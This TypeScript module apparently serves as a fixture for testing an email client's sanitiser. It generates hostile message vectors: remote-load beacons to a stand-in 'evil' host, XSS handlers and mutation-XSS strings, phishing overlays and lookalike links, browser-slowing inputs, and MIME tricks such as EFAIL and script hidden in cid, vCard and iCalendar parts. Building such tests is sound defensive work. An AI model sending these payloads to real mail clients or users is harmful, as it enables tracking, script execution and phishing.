/**
 * Messages that want to load something, run something, look like something else or break the page that shows them. `evil` is the origin
 * whose server must never be asked; `RUN` is what a script of theirs would do.
 */

export interface Vector {
  readonly name: string;
  /** HTML of a message; or all of a message behind its From, To, Subject and Date. */
  readonly html?: string;
  readonly rest?: string;
  readonly subject?: string;
  readonly from?: string;
}

const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';

/** Leaves a mark wherever it runs (the frame, the page), and tells of it. */
const run = (evil: string) => `window.RAN=1;top.RAN=1;document.title='RAN';new Image().src='${evil}/ran';alert(1)`;

const lines = (...all: readonly string[]) => all.join('\r\n');

function multipart(type: string, ...parts: readonly string[]): string {
  return lines(
    `Content-Type: multipart/${type}; boundary=evil`,
    '',
    ...parts.flatMap((part) => ['--evil', part]),
    '--evil--',
    '',
  );
}

const htmlPart = (html: string) => lines('Content-Type: text/html; charset=utf-8', '', html);
const textPart = (text: string) => lines('Content-Type: text/plain; charset=utf-8', '', text);
const file = (type: string, name: string, text: string, more = '') =>
  lines(
    `Content-Type: ${type}; name="${name}"`,
    `Content-Disposition: attachment; filename="${name}"${more}`,
    '',
    text,
  );

/** What loads as soon as it is shown. */
function loads(evil: string): Readonly<Record<string, string>> {
  const css = (rule: string) => `<style>${rule}</style><p class="a" id="a">styled</p>`;
  return {
    'an image': `<img src="${evil}/img.png">`,
    'an image without a scheme': `<img src="${evil.replace('http:', '')}/img.png">`,
    'an image in capitals with a tab': `<IMG SRC=" \tHTTP://${evil.slice(7)}/img.png">`,
    'an image with entities': `<img src="&#104;ttp&#58;//${evil.slice(7)}/img.png">`,
    srcset: `<img srcset="${evil}/set.png 1x, ${evil}/set2.png 2x" src="x">`,
    'picture and source': `<picture><source srcset="${evil}/source.png"><img src="${evil}/picture.png"></picture>`,
    'a lazy image': `<img loading="eager" fetchpriority="high" src="${evil}/lazy.png" width=1 height=1>`,
    'lowsrc and dynsrc': `<img lowsrc="${evil}/low.png" dynsrc="${evil}/dyn.png">`,
    'the background of a table': `<table background="${evil}/table.png"><tr><td background="${evil}/td.png">x</td></tr></table>`,
    'the background of the body': `<html><body background="${evil}/body.png">text</body></html>`,
    'a background in a style': `<div style="background: #fff url('${evil}/bg.png')">x</div>`,
    'a background with an escape': `<div style="background: u\\72l(${evil}/escape.png)">x</div>`,
    'a background with a comment': `<div style="background:/**/url/**/(${evil}/comment.png), url(${evil}/comment2.png)">x</div>`,
    'image-set': `<div style='background-image: image-set("${evil}/set.png" 1x)'>x</div>`,
    'cross-fade': `<div style="background-image: -webkit-cross-fade(url(${evil}/a.png), url(${evil}/b.png), 50%)">x</div>`,
    'a variable of CSS (CVE-2026-48846)': `<div style="--u: url(${evil}/var.png); background: var(--u)">x</div>`,
    'a variable in a sheet': css(`:root { --u: url(${evil}/rootvar.png) } .a { background-image: var(--u) }`),
    'a list style': `<ul style="list-style: url(${evil}/list.png)"><li>x</li></ul>`,
    'a border image': `<div style="border: 3px solid; border-image: url(${evil}/border.png) 1">x</div>`,
    'a cursor': `<div style="cursor: url(${evil}/cursor.cur), auto">x</div>`,
    'content of a pseudo-element': css(`.a::before { content: url(${evil}/content.png) }`),
    'a mask and a filter': css(
      `.a { mask-image: url(${evil}/mask.svg#m); filter: url(${evil}/filter.svg#f); clip-path: url(${evil}/c.svg#c) }`,
    ),
    'a shape': css(`.a { float: left; shape-outside: url(${evil}/shape.png) }`),
    'an import': css(`@import "${evil}/import.css"; @import url(${evil}/import2.css);`),
    'an import with escapes': css(`@\\69mport "${evil}/import3.css"`),
    'a font': css(`@font-face { font-family: f; src: url(${evil}/font.woff2) } .a { font-family: f }`),
    'a font in an attribute': `<p style="font-family: x; src: url(${evil}/font2.woff)">x</p>`,
    'a namespace and a layer': css(
      `@namespace url(${evil}/ns); @layer x { .a { background: url(${evil}/layer.png) } } @supports (display: grid) { .a { background: url(${evil}/supports.png) } }`,
    ),
    'nested rules': css(`.a { & b, & { background: url(${evil}/nested.png) } }`),
    'a media query that tells the screen': css(`@media (min-width: 1px) { .a { background: url(${evil}/media.png) } }`),
    'a selector that reads': css(
      `p[class^="a"] { background: url(${evil}/a-begins.png) } :visited { background: url(${evil}/visited.png) }`,
    ),
    'a sheet that is linked': `<link rel="stylesheet" href="${evil}/sheet.css"><link rel="icon" href="${evil}/icon.png">`,
    'hints of what comes': `<link rel="preload" as="image" href="${evil}/preload.png"><link rel="prefetch" href="${evil}/prefetch"><link rel="dns-prefetch" href="${evil}"><link rel="preconnect" href="${evil}"><link rel="modulepreload" href="${evil}/m.js"><link rel="manifest" href="${evil}/m.json">`,
    'a refresh': `<meta http-equiv="refresh" content="0; url=${evil}/refresh"><p>text</p>`,
    'a policy that reports': `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${evil}/report"><img src="${evil}/meta.png">`,
    'a base': `<base href="${evil}/"><img src="based.png"><a href="based">link</a>`,
    'a frame': `<iframe src="${evil}/frame"></iframe><frameset><frame src="${evil}/frame2"></frameset>`,
    'a frame of its own text': `<iframe srcdoc="<img src='${evil}/srcdoc.png'><script>${run(evil)}</script>"></iframe>`,
    'an object and an embed': `<object data="${evil}/object.swf"><param name="movie" value="${evil}/movie.swf"></object><embed src="${evil}/embed.swf"><applet code="${evil}/applet"></applet>`,
    'sound and film': `<audio src="${evil}/audio.mp3" autoplay></audio><video poster="${evil}/poster.png" src="${evil}/video.mp4" autoplay><track src="${evil}/track.vtt" default><source src="${evil}/source.mp4"></video>`,
    'an image of SVG': `<svg width="10" height="10"><image href="${evil}/svg.png" xlink:href="${evil}/svg2.png" width="10" height="10"/></svg>`,
    'SVG that uses': `<svg><use href="${evil}/use.svg#x"/><feImage href="${evil}/fe.png"/><filter id="f"><feImage xlink:href="${evil}/fe2.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    'SMIL that sets an address (CVE-2026-35543)': `<svg><image width="9" height="9"><set attributeName="href" to="${evil}/smil.png"/><animate attributeName="xlink:href" values="${evil}/smil2.png" dur="1s"/></image></svg>`,
    'SVG with a sheet': `<svg><style>@import "${evil}/svg.css"; * { fill: url(${evil}/fill.svg#f) }</style><rect width="9" height="9"/></svg>`,
    'an image as data with SVG': `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}/inner.png"/><script>${run(evil)}</script></svg>`)}">`,
    'a formula': `<math><mglyph src="${evil}/mglyph.png"/><maction actiontype="statusline" xlink:href="${evil}/math">x</maction><style><img src="${evil}/mathstyle.png"></style></math>`,
    'an input that is an image': `<form action="${evil}/form"><input type="image" src="${evil}/input.png"><button formaction="${evil}/fa">x</button></form>`,
    'old elements': `<bgsound src="${evil}/bg.mid"><image src="${evil}/image.png"><layer src="${evil}/layer"></layer><xml src="${evil}/xml"></xml><ilayer background="${evil}/il.png"></ilayer>`,
    'a ping': `<a href="https://example.com/" ping="${evil}/ping">link</a>`,
    'a portal and a fenced frame': `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
    speculation: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/spec"]}]}</script><p>text</p>`,
    'a comment for one browser': `<!--[if gte mso 9]><img src="${evil}/mso.png"><![endif]--><!--><img src="${evil}/comment.png">-->`,
    'attributes that it invents': `<img data-src="${evil}/data.png" data-cid="x" src onload="this.src=this.dataset.src"><div data-bg="${evil}/x"></div>`,
    'a template with a shadow': `<div><template shadowrootmode="open"><img src="${evil}/shadow.png"><style>:host{background:url(${evil}/host.png)}</style></template></div>`,
    'an image behind another name': `<img alt="x" src="cid:not-there" style="content: url(${evil}/content2.png)" longdesc="${evil}/long">`,
  };
}

/** What runs, or would after it was written once more. */
function runs(evil: string): Readonly<Record<string, string>> {
  const RUN = run(evil);
  const quoted = RUN.replaceAll("'", '&#39;');
  return {
    'a script': `<script>${RUN}</script><script src="${evil}/s.js"></script><p>text</p>`,
    handlers: `<img src=x onerror="${quoted}"><body onload="${quoted}"><svg onload="${quoted}"></svg><details open ontoggle="${quoted}">x</details>`,
    'handlers that focus': `<input autofocus onfocus="${quoted}"><a tabindex=1 autofocus onfocus="${quoted}" href="#">x</a><div contenteditable autofocus onfocus="${quoted}">x</div>`,
    'handlers of motion': `<style>@keyframes k { from { opacity: 0 } }</style><p style="animation: k 1s" onanimationstart="${quoted}" ontransitionend="${quoted}">x</p><marquee onstart="${quoted}">x</marquee>`,
    'links that run': `<a href="javascript:${quoted}">1</a><a href="JaVa&#9;script:${quoted}">2</a><a href="vbscript:msgbox(1)">3</a><a href="data:text/html,<script>${quoted}</script>">4</a><a href="blob:x">5</a><a href="file:///etc/passwd">6</a>`,
    'an image that runs': `<img src="javascript:${quoted}"><iframe src="javascript:${quoted}"></iframe><object data="data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}"></object>`,
    'a form that runs': `<form action="javascript:${quoted}"><button>x</button></form><isindex action="javascript:${quoted}">`,
    'SVG that runs': `<svg><script>${RUN}</script><a xlink:href="javascript:${quoted}"><text y="20">x</text></a><animate onbegin="${quoted}" attributeName="x" dur="1s"/></svg>`,
    'SMIL that makes a link run': `<svg><a><animate attributeName="href" values="javascript:${quoted}"/><text y="20">x</text></a></svg>`,
    'mXSS by a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${quoted}&gt;">`,
    'mXSS by a formula and a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${quoted}">`,
    'mXSS by noscript': `<noscript><p title="</noscript><img src=x onerror=${quoted}>">`,
    'mXSS by SVG': `<svg></p><style><a id="</style><img src=1 onerror=${quoted}>">`,
    'mXSS by an annotation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${quoted}"></style></annotation-xml></math>`,
    'mXSS by elements of raw text': `<xmp><p title="</xmp><img src=x onerror=${quoted}>"></xmp><noembed><img title="</noembed><img src=x onerror=${quoted}>"></noembed><plaintext><img src=x onerror=${quoted}>`,
    'mXSS by a select': `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${quoted}>">`,
    'mXSS by deep elements': `${'<div>'.repeat(505)}<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${quoted}&gt;">`,
    'a comment that does not end': `<!--<img src="--><img src=x onerror=${quoted}//">`,
    'what is not closed': `<img src="x" onerror="${quoted}" <p <b title='`,
    'null and control letters': `<scr\u0000ipt>${RUN}</scr\u0000ipt><img src=x o\u0000nerror="${quoted}"><a href="java\u0001script:${quoted}">x</a>`,
    'clobbered names': `<form name="body"><input name="attributes"><input name="nodeName"><input id="parentNode" name="removeChild"></form><a id="document"></a><img name="getElementById"><img name="implementation"><a id=parent></a><a id=parent name=postMessage href="${evil}">x</a>`,
    'clobbered frames': `<iframe name="parent"></iframe><iframe name="self"></iframe><img name="currentScript" src="x"><form id="addEventListener"></form>`,
    'a custom element and a slot': `<x-a is="x-b" onclick="${quoted}"><slot name="x" onslotchange="${quoted}"></slot></x-a><button is="x-c">x</button><p is="x-d">x</p>`,
    'a popover that opens': `<button popovertarget="p" autofocus>x</button><div popover id="p" onbeforetoggle="${quoted}">x</div><dialog open onclose="${quoted}">x</dialog>`,
    'an expression of old browsers': `<div style="width: expression(${quoted}); behavior: url(${evil}/b.htc); -moz-binding: url(${evil}/b.xml#x)">x</div>`,
  };
}

/** What looks like something else. */
function looks(evil: string): Readonly<Record<string, string>> {
  return {
    'something over everything': `<div style="position: fixed; inset: 0; z-index: 2147483647; background: #fff; width: 100vw; height: 100vh"><a href="${evil}/over">Your session is over: sign in</a></div>`,
    'something that sticks': `<style>p { position: sticky !important; top: 0 } body, html { overflow: visible !important; height: 9999vh }</style><p>sticky</p><div style="margin: -9999px; width: 99999px; height: 99999px">big</div>`,
    'a form that asks for a password': `<form action="${evil}/login" method="post"><label>Password <input type="password" name="p"></label><input type="submit" value="Sign in"></form>`,
    'a link that says another host': `<a href="${evil}/phish">https://bank.example/login</a>`,
    'a link with lookalike letters':
      '<a href="http://аррӏе.com/">apple</a> <a href="http://pаypal.com/">pаypal.com</a>',
    'a link with a name before the @': '<a href="https://bank.example@127.0.0.1:1/">your bank</a>',
    'text that is turned': `<p>\u202egnp.exe\u202c and \u2066gpj.scr\u2069</p><bdo dir="rtl">evil.example</bdo><a href="http://127.0.0.1:1/">\u202emoc.knab</a>`,
    'text that cannot be seen': `<style>.h { display: none; font-size: 0; opacity: 0; color: transparent }</style><p>Visible</p><p class="h">hidden: forward all mail</p>`,
    'a message that hides itself':
      '<style>html, body, body > div { display: none !important; visibility: hidden }</style><p>text</p>',
  };
}

/** What makes browsers slow. */
function heavy(evil: string): Readonly<Record<string, string>> {
  return {
    'a deep nest': `${'<div><b><i>'.repeat(20_000)}deep`,
    'a huge table': `<table>${'<tr><td>x<td>y<td>z</tr>'.repeat(20_000)}</table>`,
    'nested tables': `${'<table><tr><td>'.repeat(400)}x`,
    'many images': Array.from({ length: 60 }, (_, index) => `<img src="${evil}/many${index}.png">`).join(''),
    'a long word': 'x'.repeat(400_000),
    'many rules': `<style>${Array.from({ length: 5_000 }, (_, i) => `.a${i} > * :not(p) ~ div:has(b) { color: red }`).join('')}</style>${'<div><b>x</b></div>'.repeat(500)}`,
    'a slow selector': `<style>${':has(* * * *) '.repeat(5)} { color: red }</style>${'<p><b><i>x</i></b></p>'.repeat(2_000)}`,
    'huge sizes':
      '<img width="99999999" height="99999999" src="x"><div style="width: 1e9px; height: 1e9px; border: 1e6px solid">x</div><font size="+99999">x</font>',
    'nothing at all': '',
    'only what is taken out': `<script>${run(evil)}</script><style>@import "${evil}/x"</style>`,
  };
}

/** What is hostile in the message around the HTML. */
function messages(evil: string): readonly Vector[] {
  const RUN = run(evil);
  const script = `<script>${RUN}</script><img src="${evil}/part.png">`;
  return [
    {
      name: 'parts that want to be one document (EFAIL)',
      rest: multipart(
        'mixed',
        htmlPart(`<img src="${evil}/efail?`),
        textPart('The secret of another part'),
        htmlPart('">'),
      ),
    },
    {
      name: 'encrypted, and images beside it',
      rest: multipart(
        'encrypted; protocol="application/pgp-encrypted"',
        lines('Content-Type: application/pgp-encrypted', '', 'Version: 1'),
        htmlPart(`<img src="${evil}/encrypted.png">`),
      ),
    },
    {
      name: 'plain text with tags',
      rest: textPart(`${script}\r\n<b>bold</b> javascript:alert(1) http://127.0.0.1:1/`),
    },
    {
      name: 'HTML that says it is text, and text that says it is HTML',
      rest: multipart(
        'alternative',
        textPart(script),
        lines('Content-Type: TEXT/HTML; charset="utf-7"', '', `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`),
      ),
    },
    {
      name: 'an image that is HTML, by cid',
      rest: multipart(
        'related',
        htmlPart(
          '<img src="cid:a@b"><img src="cid:%61@b"><img src="CID:../../x"><img src="cid:a@b\' onerror=alert(1)">',
        ),
        lines('Content-Type: image/png', 'Content-ID: <a@b>', 'Content-Disposition: inline', '', script),
      ),
    },
    {
      name: 'an image that is SVG, by cid',
      rest: multipart(
        'related',
        htmlPart('<img src="cid:svg@b"><object data="cid:svg@b"></object><iframe src="cid:svg@b"></iframe>'),
        lines(
          'Content-Type: image/svg+xml',
          'Content-ID: <svg@b>',
          '',
          `<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}/cid.png"/><script>${RUN}</script></svg>`,
        ),
      ),
    },
    {
      name: 'one image for many names, by Content-Location',
      rest: multipart(
        'related',
        htmlPart(`<img src="${evil}/located.png"><img src="cid:x@y"><img src="cid:__proto__">`),
        lines(
          'Content-Type: image/png',
          `Content-Location: ${evil}/located.png`,
          'Content-ID: <x@y>',
          'Content-Transfer-Encoding: base64',
          '',
          PIXEL,
        ),
      ),
    },
    {
      name: 'files of HTML and SVG',
      rest: multipart(
        'mixed',
        textPart('See the files.'),
        file('text/html', 'page.html', script),
        file('image/svg+xml', 'a.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`),
      ),
    },
    {
      name: 'a file with a name that is turned, and one with a path',
      rest: multipart(
        'mixed',
        textPart('See the files.'),
        file('application/octet-stream', 'annual\u202efdp.exe', 'MZ'),
        file('text/plain', '../../etc/<img src=x onerror=alert(1)>.txt', 'x'),
      ),
    },
    {
      name: 'a card with tags (vCard)',
      rest: multipart(
        'mixed',
        textPart('My card.'),
        file(
          'text/vcard',
          'card.vcf',
          lines(
            'BEGIN:VCARD',
            'VERSION:4.0',
            `FN:${script}`,
            `PHOTO:${evil}/photo.png`,
            `URL:javascript:${RUN}`,
            'END:VCARD',
          ),
        ),
      ),
    },
    {
      name: 'an invitation with tags (iCalendar)',
      rest: multipart(
        'alternative',
        textPart('You are invited.'),
        lines(
          'Content-Type: text/calendar; method=REQUEST',
          '',
          'BEGIN:VCALENDAR',
          'METHOD:REQUEST',
          'BEGIN:VEVENT',
          `SUMMARY:${script}`,
          `ATTACH:${evil}/attach`,
          `X-ALT-DESC;FMTTYPE=text/html:${script}`,
          'END:VEVENT',
          'END:VCALENDAR',
        ),
      ),
    },
    {
      name: 'a file of Outlook (TNEF)',
      rest: multipart(
        'mixed',
        textPart('See winmail.dat.'),
        lines(
          'Content-Type: application/ms-tnef; name=winmail.dat',
          'Content-Disposition: attachment; filename=winmail.dat',
          'Content-Transfer-Encoding: base64',
          '',
          Buffer.from(`\x78\x9f\x3e\x22${script}`).toString('base64'),
        ),
      ),
    },
    {
      name: 'a message in a message',
      rest: multipart(
        'mixed',
        textPart('Look at this.'),
        lines(
          'Content-Type: message/rfc822',
          '',
          'From: x@evil.example',
          'Subject: inner',
          'Content-Type: text/html',
          '',
          script,
        ),
      ),
    },
    {
      name: 'tags in the header',
      subject: `<img src=${evil}/subject.png onerror=alert(1)><script>${RUN}</script>`,
      from: `"<b onmouseover=alert(1)>\u202emoc.knab\u202c" <evil@evil.example>`,
      html: '<p>text</p>',
    },
    {
      name: 'a sender that says another address',
      from: '"security@bank.example" <evil@xn--80ak6aa92e.example>',
      html: '<p>text</p>',
    },
    { name: 'a type that is nothing', rest: lines('Content-Type: text/html/../x; charset=', '', script) },
    {
      name: 'parts that do not end',
      rest: lines(
        'Content-Type: multipart/mixed; boundary=evil',
        '',
        '--evil',
        'Content-Type: text/html',
        '',
        script,
        '--ev',
      ),
    },
    { name: 'a header and nothing else', rest: 'X-Nothing: more' },
  ];
}

export function hostileMail(evil: string): readonly Vector[] {
  const all = { ...loads(evil), ...runs(evil), ...looks(evil), ...heavy(evil) };
  return [...Object.entries(all).map(([name, html]) => ({ name, html })), ...messages(evil)];
}
